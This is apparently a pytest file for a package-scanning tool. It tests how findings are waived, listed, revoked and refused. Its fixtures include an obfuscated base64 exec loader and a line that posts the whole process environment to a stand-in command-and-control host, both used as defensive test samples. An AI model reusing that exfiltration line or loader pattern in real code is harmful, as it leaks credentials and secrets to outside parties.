"""Findings that are accepted on the command line: with a reason, until a day, in these bytes, and on the record."""

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from pratique.simulators.wheels import wheel

Run = Callable[..., "subprocess.CompletedProcess[str]"]
RUNS = 'import base64\n\nexec(base64.b64decode("cHJpbnQoJ25vdGhpbmcgaGFwcGVucycp"))\n'
SENDS = """\
import json, os, urllib.request

urllib.request.urlopen("https://c2.example.invalid/", data=json.dumps(dict(os.environ)).encode())
"""


@pytest.fixture
def run(tmp_path: Path) -> Run:
    def run(*arguments: str, **more: str) -> "subprocess.CompletedProcess[str]":
        environment = {**os.environ, "PRATIQUE_HOME": str(tmp_path / "home"), **more}  # noqa: TID251 - a child needs the environment
        return subprocess.run(
            [sys.executable, "-m", "pratique", *arguments],
            cwd=tmp_path,
            env=environment,
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
        )

    return run


def alarms(run: Run, name: str) -> list[dict[str, str]]:
    told = json.loads(run("scan", name, "--json").stdout)["artifacts"][0]
    return [each for each in told["findings"] if each["alarm"] != "none"]


def test_what_is_accepted_is_shown_with_its_reason_and_no_longer_counts(run: Run, tmp_path: Path) -> None:
    name, data = wheel("runlook", "1.0", {"runlook/__init__.py": RUNS})
    (tmp_path / name).write_bytes(data)
    assert run("scan", name).returncode == 10
    found = alarms(run, name)
    for each in found:
        done = run("waive", "--finding", each["id"][:10].lower(), "--reason", "we have read it", "--expires", "3d")
        assert done.returncode == 0, done.stderr
        assert re.match(
            rf"\w+  the finding {each['id']} is accepted in pkg:generic/{name}\?checksum=sha256:", done.stdout
        )
    after = run("scan", name)
    assert after.returncode == 0
    assert after.stdout.count(": we have read it\n") == len(found)
    assert "--finding" not in after.stdout
    listed = run("waive", "--list").stdout
    assert all(each["id"] in listed for each in found)
    assert run("log", "tail").stdout.count("waived") == len(found)
    (suppressed, *_) = json.loads(run("scan", name, "--sarif").stdout)["runs"][0]["results"]
    assert "we have read it" in suppressed["suppressions"][0]["justification"]
    waiver = listed.split()[0]
    assert run("waive", "--revoke", waiver).returncode == 0
    assert run("scan", name).returncode == 10


def test_a_waiver_of_the_policy_counts_without_a_ledger(run: Run, tmp_path: Path) -> None:
    name, data = wheel("runlook", "1.0", {"runlook/__init__.py": RUNS})
    (tmp_path / name).write_bytes(data)
    rows = [
        f'[[waiver]]\nid = "W{number}"\ncondition = "malware"\nfinding = "{each["id"]}"\nowner = "ann"\napproved_by = "bob"\n'
        f'package = "pkg:generic/x?checksum={each["digest"]}"\nreason = "we have read it"\nexpires = 2999-01-01\n'
        for number, each in enumerate(alarms(run, name))
    ]
    (tmp_path / "policy.toml").write_text("[malware]\n[fixed-bytes]\n" + "".join(rows))
    done = run("scan", name, PRATIQUE_POLICY=str(tmp_path / "policy.toml"))
    assert (done.returncode, "accepted by bob until 2999-01-01" in done.stdout) == (0, True)
    assert not (tmp_path / "home/ledger.sqlite").exists()


def test_what_is_malicious_is_accepted_by_nobody(run: Run, tmp_path: Path) -> None:
    name, data = wheel("sendlook", "1.0", {"sendlook/__init__.py": SENDS})
    (tmp_path / name).write_bytes(data)
    (worst, *_) = alarms(run, name)
    assert worst["alarm"] == "malicious"
    done = run("waive", "--finding", worst["id"], "--reason", "please")
    assert (done.returncode, "nobody may accept that" in done.stderr) == (2, True)
    assert f"pratique scan --report {worst['id']}" in done.stderr
    assert "nobody may accept what is malicious" in run("scan", "--why", worst["id"]).stdout


def test_each_finding_can_be_explained_without_a_ledger(run: Run, tmp_path: Path) -> None:
    for name in ("judgement", "altered-file", "foreign-byte-code", "environment-sent-away"):
        told = run("explain", name)
        assert told.stdout.startswith(f"# {name}\n"), told.stderr
        assert "**What to do.**" in told.stdout
    assert not (tmp_path / "home/ledger.sqlite").exists()
